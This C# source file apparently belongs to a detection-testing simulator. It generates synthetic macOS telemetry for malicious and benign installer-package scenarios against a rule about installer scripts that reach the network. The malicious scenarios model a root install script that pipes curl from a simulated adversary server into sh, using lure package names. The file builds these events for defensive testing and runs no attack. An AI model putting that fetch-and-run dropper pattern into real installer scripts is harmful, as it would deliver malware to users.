using Vigil.Contracts.Telemetry;
using Vigil.FleetSim.Activities;
using Vigil.FleetSim.Endpoint;
using Vigil.FleetSim.Fleet;

namespace Vigil.FleetSim.Scenarios;

/// <summary>
/// Installer packages whose scripts run shells (Elastic's "MacOS Installer Package Spawns Network Event"): the
/// attack fetches a second stage with curl within seconds; the look-alikes either stay off the network or only
/// reach it well after the rule's 30 s window. All script processes run as root, like installer scripts do.
/// Evidence: the shell's exec (parent installer or package_script_service), then curl's connection.
/// </summary>
internal static class InstallerPackage
{
    private static readonly string[] LureNames = ["ZoomInstaller", "AdobeReaderUpdate", "CleanMyMac-Pro", "TeamsFix", "GoogleChromeUpdate"];
    private static readonly string[] LegitimateNames = ["Tailscale", "GlobalProtect", "CrowdStrikeFalcon", "AWSCLIV2", "MicrosoftAutoUpdate"];

    /// <summary>`sudo installer -pkg` from Terminal; the postinstall shell curls a payload into /private/tmp.</summary>
    public static IEnumerable<TelemetryEvent> PostinstallCurl(ActivityContext c)
    {
        var terminal = c.Resident(ResidentKind.Terminal);
        var name = c.Rng.Pick(LureNames);
        var (installer, setup) = CommandLineInstall(c, terminal, name);
        foreach (var e in setup)
        {
            yield return e;
        }

        foreach (var e in ScriptFetchesSecondStage(c, installer, Images.Sh, "postinstall", name))
        {
            yield return e;
        }
    }

    /// <summary>Installer.app hands the package to package_script_service, whose preinstall zsh curls a payload.</summary>
    public static IEnumerable<TelemetryEvent> PackageScriptServiceCurl(ActivityContext c)
    {
        var finder = c.Resident(ResidentKind.Finder);
        var name = c.Rng.Pick(LureNames);
        var (service, setup) = InstallerAppInstall(c, finder, name);
        foreach (var e in setup)
        {
            yield return e;
        }

        foreach (var e in ScriptFetchesSecondStage(c, service, Images.Zsh, "preinstall", name))
        {
            yield return e;
        }
    }

    /// <summary>A postinstall shell that registers a launch daemon and touches no network.</summary>
    public static IEnumerable<TelemetryEvent> PostinstallWithoutNetwork(ActivityContext c)
    {
        var terminal = c.Resident(ResidentKind.Terminal);
        var name = c.Rng.Pick(LegitimateNames);
        var (installer, setup) = CommandLineInstall(c, terminal, name);
        foreach (var e in setup)
        {
            yield return e;
        }

        var (shell, scriptEvents) = ScriptStarts(c, installer, Images.Sh, "postinstall", name);
        foreach (var e in scriptEvents)
        {
            yield return e;
        }

        var plist = $"/Library/LaunchDaemons/com.{name.ToLowerInvariant()}.daemon.plist";
        yield return c.CreateFile(shell, plist, c.Rng.Between(600L, 1_500L));
        var launchctl = c.Spawn(shell, Images.Launchctl, ["/bin/launchctl", "bootstrap", "system", plist]);
        c.WaitMillis(20, 300);
        yield return c.Exec(launchctl);
        c.WaitMillis(10, 200);
        yield return c.Exit(launchctl);
        yield return c.Exit(shell);
        yield return c.Exit(installer);
        c.Describe($"The {name} package's postinstall shell (parent installer) registers {plist}; no network");
    }

    /// <summary>A package whose installed daemon runs curl to its vendor 45 s to 3 min after the postinstall shell.</summary>
    public static IEnumerable<TelemetryEvent> CurlAfterWindow(ActivityContext c)
    {
        var finder = c.Resident(ResidentKind.Finder);
        var name = c.Rng.Pick(LegitimateNames);
        var (service, setup) = InstallerAppInstall(c, finder, name);
        foreach (var e in setup)
        {
            yield return e;
        }

        var (shell, scriptEvents) = ScriptStarts(c, service, Images.Sh, "postinstall", name);
        foreach (var e in scriptEvents)
        {
            yield return e;
        }

        c.WaitMillis(100, 2000);
        yield return c.Exit(shell);
        c.WaitSeconds(45, 180);
        var daemon = c.Spawn(c.Launchd, new ExecutableImage($"/Library/Application Support/{name}/{name.ToLowerInvariant()}d", CodeSignatureFacts.DeveloperId($"{name} Inc.", "7QX3RPSJ2K", $"com.{name.ToLowerInvariant()}.daemon")),
            [$"/Library/Application Support/{name}/{name.ToLowerInvariant()}d"], "/", SimUser.Root);
        yield return c.Exec(daemon);
        var domain = $"update.{name.ToLowerInvariant()}.com";
        var curl = c.Spawn(daemon, Images.Curl, ["/usr/bin/curl", "-sf", $"https://{domain}/api/v2/check"], "/", SimUser.Root);
        c.WaitMillis(100, 1500);
        yield return c.Exec(curl);
        var (sent, received) = Traffic.SmallRequest(c);
        foreach (var e in Traffic.Exchange(c, curl, domain, sent, received))
        {
            yield return e;
        }

        yield return c.Exit(curl);
        c.Describe($"The {name} package's postinstall shell runs under package_script_service; the installed daemon's curl reaches {domain} minutes later, outside the 30 s window");
    }

    private static (SimProcess Installer, IEnumerable<TelemetryEvent> Events) CommandLineInstall(ActivityContext c, SimProcess terminal, string name)
    {
        var package = $"{c.Home}/Downloads/{name}.pkg";
        var zsh = Shells.TerminalZsh(c, terminal);
        var sudo = c.Spawn(zsh, Images.Sudo, ["sudo", "installer", "-pkg", package, "-target", "/"], user: SimUser.Root, interactive: true);
        var installer = c.Spawn(sudo, Images.Installer, ["installer", "-pkg", package, "-target", "/"], user: SimUser.Root);
        return (installer, Events());

        IEnumerable<TelemetryEvent> Events()
        {
            yield return c.Exec(zsh);
            c.WaitSeconds(1, 20);
            yield return c.Exec(sudo);
            c.WaitSeconds(1, 6);
            yield return c.Exec(installer);
            c.WaitMillis(20, 300);
            yield return c.OpenFile(installer, package, c.Rng.Between(2_000_000L, 80_000_000L));
        }
    }

    private static (SimProcess Service, IEnumerable<TelemetryEvent> Events) InstallerAppInstall(ActivityContext c, SimProcess finder, string name)
    {
        var package = $"{c.Home}/Downloads/{name}.pkg";
        var app = c.Spawn(c.Launchd, Images.InstallerApp, [Images.InstallerApp.Path, package], "/", c.User, effectiveParent: finder);
        var service = c.Spawn(c.Launchd, Images.PackageScriptService, [Images.PackageScriptService.Path], "/", SimUser.Root, effectiveParent: app);
        return (service, Events());

        IEnumerable<TelemetryEvent> Events()
        {
            yield return c.Exec(app);
            c.WaitMillis(50, 400);
            yield return c.OpenFile(app, package, c.Rng.Between(2_000_000L, 80_000_000L));
            c.WaitSeconds(5, 40);
            yield return c.Exec(service);
        }
    }

    private static (SimProcess Shell, IEnumerable<TelemetryEvent> Events) ScriptStarts(ActivityContext c, SimProcess parent, ExecutableImage shellImage, string phase, string name)
    {
        var script = $"/private/tmp/PKInstallSandbox.{c.Rng.Alphanumeric(6)}/Scripts/com.{name.ToLowerInvariant()}.pkg.{c.Rng.Alphanumeric(6)}/{phase}";
        var shell = c.Spawn(parent, shellImage, [shellImage.Path, script, $"{c.Home}/Downloads/{name}.pkg", "/", "/", "/"], "/private/tmp", SimUser.Root);
        return (shell, Events());

        IEnumerable<TelemetryEvent> Events()
        {
            c.WaitMillis(100, 2000);
            var exec = c.Exec(shell);
            yield return c.Trace is not null && c.Trace.Definition.Label == ScenarioLabel.Malicious ? c.Evidence(exec) : exec;
            c.WaitMillis(2, 30);
            yield return c.LoadScript(shell, script);
        }
    }

    private static IEnumerable<TelemetryEvent> ScriptFetchesSecondStage(ActivityContext c, SimProcess parent, ExecutableImage shellImage, string phase, string name)
    {
        var (shell, scriptEvents) = ScriptStarts(c, parent, shellImage, phase, name);
        foreach (var e in scriptEvents)
        {
            yield return e;
        }

        // `curl ... | sh`: the second stage never touches disk, the way these droppers usually fetch it.
        var peer = Adversary.DownloadServer(c, 443);
        var url = Adversary.Url(peer, "https", $"{c.Rng.Alphanumeric(10)}/stage2.sh");
        var curl = c.Spawn(shell, Images.Curl, ["curl", "-fsSL", url]);
        var pipeShell = c.Spawn(shell, Images.Sh, ["sh"]);
        c.WaitMillis(200, 20_000);
        yield return c.Exec(curl);
        yield return c.Exec(pipeShell);
        if (peer.Domain is not null)
        {
            c.WaitMillis(2, 30);
            yield return c.Lookup(curl, peer.Domain);
        }

        c.WaitMillis(5, 80);
        var connection = c.Connect(curl, peer, "https");
        yield return c.Evidence(c.ConnectionAttempted(connection));
        var size = c.Rng.Between(2_000L, 40_000L);
        c.Wait(Traffic.TransferTime(c, size));
        yield return c.Disconnected(connection, c.Rng.Between(400L, 1_200L), size);
        yield return c.Exit(curl);
        c.WaitMillis(50, 3000);
        yield return c.Exit(pipeShell);
        yield return c.Exit(shell);
        yield return c.Exit(parent);
        c.Describe($"The {name} package's {phase} {shell.Name} (parent {parent.Name}, root) pipes curl from {peer.Domain ?? peer.Ip} into sh within seconds");
    }
}
